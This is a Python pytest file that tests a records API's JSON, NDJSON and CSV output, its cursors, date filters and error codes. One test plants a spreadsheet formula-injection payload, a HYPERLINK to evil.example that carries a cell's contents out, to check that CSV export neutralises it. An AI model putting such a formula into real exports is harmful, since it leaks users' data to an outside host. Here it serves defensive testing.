"""Reading records: JSON pages with cursors, NDJSON and CSV streams, filters, refusals."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal
from typing import Any
from uuid import UUID

import pytest

from app.datasources.records import neutralized
from app.datasources.service import encode_cursor
from app.datasources.types import SPECS, DataType
from tests.datasources.conftest import ORG, YEAR_2026, World, live


@pytest.fixture
async def source(world: World) -> dict[str, Any]:
    created = await world.created(
        data_types=["contacts", "invoices", "entries"],
        accounting_year=YEAR_2026,
        default_date_field="date",
    )
    await world.run_jobs()
    return created


async def test_json_pages_follow_cursors_without_gaps_or_repeats(
    world: World, source: dict[str, Any]
) -> None:
    seen: list[tuple[str, str]] = []
    cursor = None
    pages = 0
    while True:
        params: dict[str, Any] = {"limit": 7, "data_type": "contacts"}
        if cursor:
            params["cursor"] = cursor
        response = await world.records(source["id"], **params)
        assert response.status_code == 200
        assert response.headers["content-type"] == "application/json"
        page = response.json()
        assert len(page["items"]) <= 7
        seen.extend((i["data_type"], i["key"]) for i in page["items"])
        cursor = page["next_cursor"]
        pages += 1
        if not page["has_more"]:
            break
    assert len(seen) == len(set(seen))
    assert {key for _, key in seen} == live(world.sandbox, "contacts")
    assert pages == -(-len(seen) // 7)
    # The last cursor stays useful: nothing new yet.
    again = (await world.records(source["id"], cursor=cursor, data_type="contacts")).json()
    assert again == {"items": [], "next_cursor": cursor, "has_more": False}


async def test_ndjson_streams_one_record_per_line(world: World, source: dict[str, Any]) -> None:
    response = await world.records(source["id"], accept="application/x-ndjson")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/x-ndjson")
    assert response.headers["has-more"] == "false"
    lines = response.text.splitlines()
    items = [json.loads(line) for line in lines]
    status = await world.get(source["id"])
    assert len(items) == status["records"]
    assert {i["data_type"] for i in items} == {"contacts", "invoices", "entries"}

    # With a limit: that many, and the cursor to go on with.
    first = await world.records(source["id"], accept="application/x-ndjson", limit=10)
    assert len(first.text.splitlines()) == 10
    assert first.headers["has-more"] == "true"
    rest = await world.records(
        source["id"], accept="application/x-ndjson", cursor=first.headers["next-cursor"]
    )
    keys = [json.loads(line)["key"] for line in first.text.splitlines() + rest.text.splitlines()]
    assert sorted(keys) == sorted(i["key"] for i in items)


async def test_csv_has_one_type_with_dinero_s_fields_as_columns(
    world: World, source: dict[str, Any]
) -> None:
    response = await world.records(source["id"], accept="text/csv", data_type="invoices")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert list(rows[0]) == ["key", "deleted", "deleted_at", *SPECS[DataType.INVOICES].fields]
    invoices = {r.guid: r for r in world.sandbox.records(ORG, "invoices")}
    assert {row["key"] for row in rows} == set(invoices)
    for row in rows:
        invoice = invoices[row["key"]].data
        assert Decimal(row["TotalInclVat"]) == invoice["TotalInclVat"]
        assert row["Date"] == invoice["Date"]
        assert row["deleted"] == "false"

    several = await world.records(source["id"], accept="text/csv")
    assert several.status_code == 422
    assert several.json()["code"] == "csv_needs_one_data_type"


async def test_unsupported_accept_is_406(world: World, source: dict[str, Any]) -> None:
    response = await world.records(source["id"], accept="application/xml")
    assert response.status_code == 406
    assert response.headers["content-type"].startswith("application/problem+json")
    assert response.json()["code"] == "not_acceptable"
    # q-values are honoured; a browser's */* gets JSON.
    csv_first = await world.records(
        source["id"], accept="application/json;q=0.5, text/csv", data_type="contacts"
    )
    assert csv_first.headers["content-type"].startswith("text/csv")
    browser = await world.records(source["id"], accept="text/html,*/*;q=0.8")
    assert browser.headers["content-type"] == "application/json"


async def test_date_filters(world: World, source: dict[str, Any]) -> None:
    march = {"date_from": "2026-03-01", "date_to": "2026-03-31"}
    # The default date field (date) applies: invoices and entries of March, no contacts.
    items = await world.all_records(source["id"], **march)
    assert items
    assert {i["data_type"] for i in items} <= {"invoices", "entries"}
    for item in items:
        assert date(2026, 3, 1) <= date.fromisoformat(item["data"]["Date"]) <= date(2026, 3, 31)
    march_invoices = {
        r.guid
        for r in world.sandbox.records(ORG, "invoices")
        if "2026-03-01" <= r.data["Date"] <= "2026-03-31"
    }
    assert {i["key"] for i in items if i["data_type"] == "invoices"} == march_invoices

    due = await world.all_records(
        source["id"], data_type="invoices", date_field="payment_date", **march
    )
    assert {i["key"] for i in due} == {
        r.guid
        for r in world.sandbox.records(ORG, "invoices")
        if "2026-03-01" <= r.data["PaymentDate"] <= "2026-03-31"
    }
    created = await world.all_records(
        source["id"],
        data_type="contacts",
        date_field="created_at",
        date_from="2026-01-01",
        date_to="2026-01-31",
    )
    assert {i["key"] for i in created} == {
        r.guid
        for r in world.sandbox.records(ORG, "contacts")
        if r.created_at.date() <= date(2026, 1, 31)
    }


async def test_bad_reads_are_refused_with_a_reason(world: World, source: dict[str, Any]) -> None:
    cases: list[tuple[dict[str, Any], int, str]] = [
        ({"cursor": "not-a-cursor"}, 400, "invalid_cursor"),
        # Well formed, this data source's, but past what a bigint position can be.
        ({"cursor": encode_cursor(UUID(source["id"]), 10**30)}, 400, "invalid_cursor"),
        ({"cursor": encode_cursor(UUID(source["id"]), 2**63)}, 400, "invalid_cursor"),
        ({"cursor": encode_cursor(UUID(source["id"]), 2**63 - 1)}, 200, ""),
        ({"data_type": "products"}, 422, "data_type_not_in_source"),
        (
            {"data_type": "contacts", "date_field": "payment_date", "date_from": "2026-01-01"},
            422,
            "date_field_not_available",
        ),
        ({"date_from": "2026-13-01"}, 422, "validation_error"),
        ({"date_from": "2026-02-01", "date_to": "2026-01-01"}, 422, "validation_error"),
        ({"limit": 0}, 422, "validation_error"),
    ]
    for params, status, code in cases:
        response = await world.records(source["id"], **params)
        assert response.status_code == status, params
        assert response.json().get("code", "") == code, (params, response.json())

    other = await world.created(data_types=["contacts"])
    await world.run_jobs()
    no_default = await world.records(other["id"], date_from="2026-01-01")
    assert no_default.json()["code"] == "date_field_required"
    first = (await world.records(source["id"], limit=1)).json()["next_cursor"]
    foreign = await world.records(other["id"], cursor=first)
    assert (foreign.status_code, foreign.json()["code"]) == (400, "invalid_cursor")
    # One data type: CSV needs no data_type parameter.
    single = await world.records(other["id"], accept="text/csv")
    assert single.status_code == 200
    assert len(single.text.splitlines()) == 1 + len(live(world.sandbox, "contacts"))


async def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(world: World) -> None:
    contact = world.sandbox.records(ORG, "contacts")[0]
    contact.data["Name"] = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    contact.data["City"] = "@SUM(1+1)"
    contact.data["Phone"] = "+45 12 34 56 78"
    contact.data["Street"] = "-2+3"
    created = await world.created(data_types=["contacts"])
    await world.run_jobs()

    response = await world.records(created["id"], accept="text/csv")

    rows = {row["key"]: row for row in csv.DictReader(io.StringIO(response.text))}
    row = rows[contact.guid.lower()]
    assert row["Name"] == "'" + contact.data["Name"]
    assert (row["City"], row["Phone"], row["Street"]) == ("'@SUM(1+1)", "'+45 12 34 56 78", "'-2+3")
    # JSON and NDJSON carry Dinero's values as they are.
    page = await world.records(created["id"], data_type="contacts", limit=1000)
    data = {i["key"]: i["data"] for i in page.json()["items"]}[contact.guid.lower()]
    assert data["Name"] == contact.data["Name"]


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Taxa 1+1", "Taxa 1+1"),
        ("", ""),
    ],
)
def test_neutralized_text(cell: str, shown: str) -> None:
    assert neutralized(cell) == shown
